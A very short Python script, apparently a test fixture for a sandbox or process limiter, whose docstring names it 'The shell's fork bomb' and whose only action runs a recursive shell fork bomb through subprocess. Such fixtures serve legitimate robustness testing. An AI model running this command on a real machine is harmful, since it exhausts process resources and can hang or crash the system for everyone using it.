"""The shell's fork bomb.

ends: any
"""

import subprocess

subprocess.run(["sh", "-c", "b() { b | b & }; b; sleep 60"], check=False)
